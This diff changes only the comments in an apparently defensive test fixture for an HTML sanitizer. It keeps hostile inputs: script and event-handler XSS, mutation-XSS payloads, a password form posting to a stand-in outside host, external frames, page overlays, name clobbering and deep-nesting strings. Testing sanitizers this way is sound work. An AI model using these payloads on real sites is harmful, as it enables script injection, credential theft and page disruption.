@@ -1,7 +1,7 @@
 const RUN = 'window.richTextRan=1';
 const OUT = 'https://outside.example';
 
-/** Texts that run a script by markup alone. */
+/** Texts that run a script by markup. */
 const RUNNING = {
   script: `<script>${RUN}</script><p>after</p>`,
   'event handler': `<img src="x" onerror="${RUN}"><b onclick="${RUN}">b</b>`,
@@ -34,7 +34,7 @@ const LINKS = {
   'blob link': '<a href="blob:null/1">press</a>',
 } as const;
 
-/** Texts that one parser reads as harmless and the next one does not. */
+/** Texts that mutate between two parsers (mXSS). */
 const MUTATIONS = {
   'math namespace': `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
   'form mutation': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
@@ -57,7 +57,7 @@ const MUTATIONS = {
   unclosed: '<b><i><table><tr><td><p>unclosed',
 } as const;
 
-/** Texts that tell another host that they were read, or ask it for more. */
+/** Texts that send requests to another host. */
 const LOADING = {
   frame: `<iframe src="${OUT}/"></iframe><object data="${OUT}/"></object><embed src="${OUT}/">`,
   form: `<form action="${OUT}/"><input name="password"><button formaction="${OUT}/b">Log in</button><isindex></form>`,
@@ -87,7 +87,7 @@ const LOADING = {
   portal: `<portal src="${OUT}/"></portal><frameset><frame src="${OUT}/"></frameset><fencedframe src="${OUT}/"></fencedframe>`,
 } as const;
 
-/** Texts that cover the page, or take names the page uses. */
+/** Texts that cover the page or clobber its names. */
 const OVERREACHING = {
   'style over the page':
     '<div style="position:fixed;inset:0;z-index:9999;background:black">cover</div>',
@@ -105,7 +105,7 @@ const OVERREACHING = {
     '<p contenteditable draggable="true" popover popovertarget="x" inert>p</p>',
 } as const;
 
-/** Texts that cost more than they are long. */
+/** Texts that cause more than linear work. */
 const COSTLY = {
   'deep nesting': `${'<div>'.repeat(3000)}deep`,
   'deep lists': `${'<ul><li>'.repeat(1500)}deep`,
@@ -115,7 +115,7 @@ const COSTLY = {
   'links in links': '<a href="/m/home">x'.repeat(500),
 } as const;
 
-/** Texts that try to run, to load, to leave, to cover the page or to stop it; each must come out harmless. */
+/** All hostile texts by name: each must come out harmless. */
 export const HOSTILE_TEXTS = {
   ...RUNNING,
   ...LINKS,
